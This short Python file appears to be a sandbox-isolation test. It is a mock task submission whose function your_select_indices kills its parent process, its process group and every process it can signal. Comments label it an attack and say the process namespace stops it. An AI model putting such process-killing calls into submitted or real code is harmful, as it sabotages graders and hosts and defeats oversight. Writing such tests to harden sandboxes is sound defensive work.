# ATTACK [process]: kills its parent, its process group and every process that it may
# STOPPED BY: it can reach nothing outside its process namespace; an early end is its own
import os
import signal


def your_select_indices(targets, losses):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    os.kill(0, signal.SIGKILL)
    return [[0], [0]]
